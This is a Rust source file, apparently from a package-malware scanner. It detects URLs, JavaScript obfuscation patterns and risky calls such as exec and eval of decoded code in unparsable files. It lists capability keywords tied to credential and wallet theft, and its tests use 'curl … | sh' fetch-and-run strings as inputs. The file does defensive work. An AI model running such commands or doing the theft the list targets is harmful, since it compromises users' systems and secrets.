//! Checks over raw text: URLs in any string, obfuscation shapes, and the
//! fallback for files the parser cannot read (malware is often broken on
//! purpose).

use std::sync::LazyLock;

use palisade_diagnostics::{
    DecodeRunFact, EnvAccessFact, Fact, FactKind, Facts, ImportFact, NetworkFact, ProcessFact,
};
use regex::Regex;

use crate::classify;
use crate::lines::LineIndex;

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:https?|wss?|ftp)://[^\s'"<>`\\)]{3,512}"#).expect("valid regex")
});

/// URLs in a text.
pub(crate) fn urls(text: &str) -> impl Iterator<Item = &str> {
    URL.find_iter(text).map(|m| m.as_str())
}

/// Obfuscation measurements of one file.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct Obfuscation {
    /// `_0x1a2b`-style identifiers (javascript-obfuscator's default naming).
    pub hex_identifiers: usize,
    /// The string-array rotation loop (`push(shift())` on a `_0x` array).
    pub string_array_rotation: bool,
    /// `\xNN` escapes in the text.
    pub hex_escapes: usize,
    /// JSFuck-style `(![]+[])` fragments.
    pub jsfuck: usize,
    /// Offset of the first sign, for the finding's location.
    pub first_offset: Option<u32>,
    /// Anti-analysis tricks: debugger traps, console silencing.
    pub anti_analysis: bool,
    /// The obfuscator's string array is itself encoded (base64/RC4).
    pub encoded_strings: bool,
    /// Capability words among the file's strings (`child_process`,
    /// `webhook`, `hostname`...), the obfuscated code's real intent.
    pub capability_words: Vec<&'static str>,
}

/// Words that, inside obfuscated code, say what it is for.
const CAPABILITY_WORDS: &[&str] = &[
    "child_process",
    "execSync",
    "spawn",
    "https",
    "http",
    "XMLHttpRequest",
    "axios",
    "request",
    "fetch",
    "webhook",
    "discord",
    "token",
    "hostname",
    "userInfo",
    "homedir",
    "networkInterfaces",
    "readFileSync",
    "writeFileSync",
    "createWriteStream",
    "Local Storage",
    "leveldb",
    "wallet",
    "password",
    "cookies",
    "eval",
    "dns",
    "net",
    "ftp",
    "upload",
    "POST",
];

/// Capability words found quoted in the text (after `\xNN` decoding).
fn capability_words(text: &str) -> Vec<&'static str> {
    let decoded;
    let hay = if text.contains("\\x") {
        decoded = decode_hex_escapes(text);
        decoded.as_str()
    } else {
        text
    };
    CAPABILITY_WORDS
        .iter()
        .copied()
        .filter(|w| {
            [b'\'', b'"', b'`'].iter().any(|q| {
                let mut needle = vec![*q];
                needle.extend_from_slice(w.as_bytes());
                needle.push(*q);
                memchr::memmem::find(hay.as_bytes(), &needle).is_some()
            })
        })
        .collect()
}

fn decode_hex_escapes(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\'
            && b.get(i + 1) == Some(&b'x')
            && let Some(v) = text
                .get(i + 2..i + 4)
                .and_then(|h| u8::from_str_radix(h, 16).ok())
        {
            out.push(v);
            i += 4;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

static HEX_IDENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b_0x[0-9a-fA-F]{3,6}\b").expect("valid regex"));

/// Measures obfuscation shapes. Cheap: a few byte searches, then a regex only
/// when the fast check finds a candidate.
pub(crate) fn obfuscation(text: &str) -> Obfuscation {
    let b = text.as_bytes();
    let mut o = Obfuscation::default();
    if let Some(first) = memchr::memmem::find(b, b"_0x") {
        o.hex_identifiers = HEX_IDENT.find_iter(text).take(10_000).count();
        if o.hex_identifiers > 0 {
            o.first_offset = u32::try_from(first).ok();
        }
        let rotation = (memchr::memmem::find(b, b"'push'").is_some()
            || memchr::memmem::find(b, b"\"push\"").is_some()
            || memchr::memmem::find(b, b"\\x70\\x75\\x73\\x68").is_some())
            && (memchr::memmem::find(b, b"'shift'").is_some()
                || memchr::memmem::find(b, b"\"shift\"").is_some()
                || memchr::memmem::find(b, b"\\x73\\x68\\x69\\x66\\x74").is_some());
        o.string_array_rotation = rotation && o.hex_identifiers >= 5;
    }
    o.hex_escapes = memchr::memmem::find_iter(b, b"\\x").take(100_000).count();
    o.jsfuck = memchr::memmem::find_iter(b, b"(![]+[])")
        .take(10_000)
        .count()
        + memchr::memmem::find_iter(b, b"[]+[]").take(10_000).count() / 4;
    o.anti_analysis = (memchr::memmem::find(b, b"'debu'").is_some()
        || memchr::memmem::find(b, b"\"debu\"").is_some()
        || memchr::memmem::find(b, b"debu\\x67ger").is_some())
        || (memchr::memmem::find(b, b"constructor(\"return this\")").is_some()
            && memchr::memmem::find(b, b"'console'").is_some());
    if o.is_obfuscated(text.len()) {
        o.capability_words = capability_words(text);
        // An embedded base64 alphabet in obfuscated code (javascript-
        // obfuscator puts the lower case first, others the standard order):
        // the string array itself is encoded, so even the obfuscated form
        // hides its words.
        if [
            &b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"[..],
            &b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[..],
        ]
        .iter()
        .any(|alphabet| memchr::memmem::find(b, alphabet).is_some())
        {
            o.encoded_strings = true;
        }
    }
    if o.first_offset.is_none() && (o.hex_escapes > 0 || o.jsfuck > 0) {
        o.first_offset = memchr::memmem::find(b, b"\\x")
            .or_else(|| memchr::memmem::find(b, b"[]+[]"))
            .and_then(|i| u32::try_from(i).ok());
    }
    o
}

impl Obfuscation {
    /// javascript-obfuscator output or a JSFuck encoding, as opposed to
    /// ordinary minification.
    pub(crate) fn is_obfuscated(&self, len: usize) -> bool {
        let per_kb = |n: usize| n * 1024 / len.max(1);
        self.string_array_rotation
            || self.anti_analysis
            || (self.hex_identifiers >= 20 && per_kb(self.hex_identifiers) >= 2)
            || self.jsfuck >= 20
            || (self.hex_escapes >= 200 && per_kb(self.hex_escapes) >= 20)
    }

    pub(crate) fn describe(&self) -> String {
        let mut parts = Vec::new();
        if self.string_array_rotation {
            parts.push("a rotated string array".to_owned());
        }
        if self.hex_identifiers > 0 {
            parts.push(format!("{} `_0x…` identifiers", self.hex_identifiers));
        }
        if self.hex_escapes >= 200 {
            parts.push(format!("{} `\\x` escapes", self.hex_escapes));
        }
        if self.jsfuck >= 20 {
            parts.push("JSFuck-style `(![]+[])` fragments".to_owned());
        }
        if self.anti_analysis {
            parts.push("anti-debugging tricks".to_owned());
        }
        parts.join(", ")
    }
}

static REQUIRE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"require\s*\(\s*['"]([^'"]{1,200})['"]\s*\)"#).expect("valid regex")
});
static EVAL_DECODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\b(?:eval|Function|runInThisContext|runInNewContext)\s*\(\s*(?:atob|Buffer\.from|unescape|decodeURIComponent|String\.fromCharCode)\b"#)
        .expect("valid regex")
});
static EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"\b(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\s*\(\s*['"`]([^'"`]{1,500})"#,
    )
    .expect("valid regex")
});
static ENV_BULK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:JSON\.stringify|Object\.(?:keys|entries|values))\s*\(\s*process\.env\s*\)")
        .expect("valid regex")
});

/// Facts from the raw text of a file that did not parse. Coarser than the
/// AST checker: no taint, no scopes; enough to see what the file reaches for.
pub(crate) fn fallback_facts(path: &str, text: &str) -> Facts {
    let idx = LineIndex::new(text);
    let at = |offset: usize| Fact {
        location: idx.location(path, text, u32::try_from(offset).unwrap_or(u32::MAX)),
        install_time: false,
    };
    let mut f = Facts::default();
    for m in REQUIRE.captures_iter(text).take(200) {
        if let Some(g) = m.get(1) {
            f.imports.push(ImportFact {
                module: Some(
                    g.as_str()
                        .strip_prefix("node:")
                        .unwrap_or(g.as_str())
                        .to_owned(),
                ),
                how: "require".to_owned(),
                at: at(g.start()),
            });
        }
    }
    let mut seen = std::collections::HashSet::new();
    for m in URL.find_iter(text).take(500) {
        if let Some(d) = classify::destination(m.as_str())
            && seen.insert(d.host.clone())
        {
            f.network.push(NetworkFact {
                api: None,
                destination: Some(m.as_str().to_owned()),
                host: Some(d.host.clone()),
                host_kind: Some(d.kind),
                collector: d.collector.map(str::to_owned),
                at: at(m.start()),
            });
        }
    }
    for m in EVAL_DECODE.find_iter(text).take(50) {
        f.decode_run.push(DecodeRunFact {
            sink: "eval".to_owned(),
            decoder: "unknown".to_owned(),
            at: at(m.start()),
        });
    }
    for m in EXEC.captures_iter(text).take(50) {
        if let Some(g) = m.get(1) {
            f.processes.push(ProcessFact {
                api: "child_process.exec".to_owned(),
                command: Some(g.as_str().to_owned()),
                at: at(g.start()),
            });
        }
    }
    if let Some(m) = ENV_BULK.find(text) {
        f.env.push(EnvAccessFact {
            name: None,
            at: at(m.start()),
        });
    }
    let _ = FactKind {
        kind: String::new(),
        detail: String::new(),
        at: at(0),
    };
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_urls() {
        let v: Vec<_> = urls("curl https://a.invalid/x.sh | sh; 'http://127.0.0.1:8/a'").collect();
        assert_eq!(v, ["https://a.invalid/x.sh", "http://127.0.0.1:8/a"]);
    }

    #[test]
    fn obfuscation_shapes() {
        let mut src = String::from(
            "var _0x1a2b=['push','shift'];(function(_0x3c4d,_0x5e6f){while(!![]){_0x3c4d['push'](_0x3c4d['shift']());}})(_0x1a2b,0x1);",
        );
        for i in 0..30 {
            src.push_str(&format!("var _0x{i:04x}=_0x1a2b[{i}];"));
        }
        assert!(obfuscation(&src).is_obfuscated(src.len()));
        assert!(!obfuscation(&src).encoded_strings);
        // A base64 alphabet in either order: the string array is encoded.
        for alphabet in [
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=",
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=",
        ] {
            let encoded = format!("{src}var _0xabc='{alphabet}';");
            assert!(obfuscation(&encoded).encoded_strings);
        }
        let plain = "function add(a, b) { return a + b; }\nmodule.exports = add;";
        assert!(!obfuscation(plain).is_obfuscated(plain.len()));
    }

    #[test]
    fn fallback_reads_broken_files() {
        let f = fallback_facts(
            "x.js",
            "const cp = require('child_process'); {{{ cp.exec('curl http://127.0.0.1/a | sh'",
        );
        assert_eq!(f.imports[0].module.as_deref(), Some("child_process"));
        assert_eq!(
            f.processes[0].command.as_deref(),
            Some("curl http://127.0.0.1/a | sh")
        );
    }
}
